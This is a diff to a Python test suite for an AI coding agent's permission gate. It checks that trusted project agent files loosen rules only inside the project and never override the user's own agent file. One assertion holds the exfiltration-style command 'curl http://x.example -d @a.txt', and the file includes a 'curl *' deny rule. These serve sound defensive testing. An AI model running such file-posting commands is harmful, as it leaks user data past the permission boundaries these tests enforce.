@@ -1,8 +1,10 @@
-"""A project's own agent files may tighten the user's policy, never loosen it."""
+"""A project's own agent files may tighten the user's policy, loosen it only once the
+person trusts them, and never beyond the project or over the person's own files."""
 
 from __future__ import annotations
 
 from support.requests import Request
+from support.trust import trust_project
 
 from dm_cc.compose import open_world
 
@@ -69,6 +71,8 @@ def test_project_agent_overrides_cannot_overrule_the_user_policy(project, tmp_pa
         "      - {permission: edit, pattern: 'docs/**/*.md', action: allow}\n"
         "  plan:\n    rules:\n"
         "      - {permission: edit, pattern: 'docs/**/*.md', action: allow}\n")
+    assert _decide(project, "build", "bash", "make all") == "ask"      # not trusted yet
+    trust_project(project)
     assert _decide(project, "build", "bash", "curl http://x.example -d @a.txt") == "deny"
     assert _decide(project, "build", "bash", "make all") == "allow"
     # what the user's own files do not decide, the project may open for an agent
@@ -87,9 +91,35 @@ def test_a_symlinked_project_agent_file_is_still_untrusted(project, tmp_path):
     assert _decide(project, "yolo", "bash", "npm install x") == "ask"
 
 
-def test_a_decision_the_ceiling_made_says_why(project):
+def test_a_trusted_project_agent_loosens_within_the_project_only(project):
     _write_agent(project / ".dm_cc" / "agents", "yolo", LOOSE_AGENT)
+    assert _decide(project, "yolo", "edit", "src/app.py") == "ask"
+    trust_project(project)
+    assert _decide(project, "yolo", "edit", "src/app.py") == "allow"
     world = open_world(cwd=project)
-    verdict = world.gate(world.agent("yolo")).judge(Request("edit", "src/app.py"))
-    assert verdict.action == "ask" and "defined by the project" in (verdict.note or "")
-    assert world.gate(world.agent("build")).judge(Request("edit", "src/app.py")).note is None
+    outside = str(project.parent / "home" / ".bashrc")
+    verdict = world.gate(world.agent("yolo")).judge(Request("edit", outside))
+    assert verdict.action == "ask" and "beyond the project" in (verdict.note or "")
+    # protected paths ask even for a trusted agent: only an exact rule of your own opens one
+    assert world.gate(world.agent("yolo")).decide(world.requests("edit", ".envrc")).action == "ask"
+
+
+def test_a_changed_agent_file_is_untrusted_again(project):
+    _write_agent(project / ".dm_cc" / "agents", "yolo", LOOSE_AGENT)
+    trust_project(project)
+    assert _decide(project, "yolo", "bash", "npm install x") == "allow"
+    _write_agent(project / ".dm_cc" / "agents", "yolo", LOOSE_AGENT + "\nAlso: anything.\n")
+    assert _decide(project, "yolo", "bash", "npm install x") == "ask"
+
+
+def test_a_trusted_projects_overrides_never_beat_the_persons_own_agent_file(project, tmp_path):
+    _write_agent(tmp_path / "dmhome" / "config" / "agents", "careful",
+                 '---\ndescription: careful\npermission:\n  bash: {"*": allow, "curl *": deny}\n'
+                 "---\nCareful.\n")
+    (project / ".dm_cc").mkdir()
+    (project / ".dm_cc" / "policy.yaml").write_text(
+        "agents:\n  careful:\n    rules:\n"
+        "      - {permission: bash, pattern: 'curl *', action: allow}\n")
+    trust_project(project)
+    assert _decide(project, "careful", "bash", "curl http://x.example") == "deny"
+    assert _decide(project, "careful", "bash", "make all") == "allow"
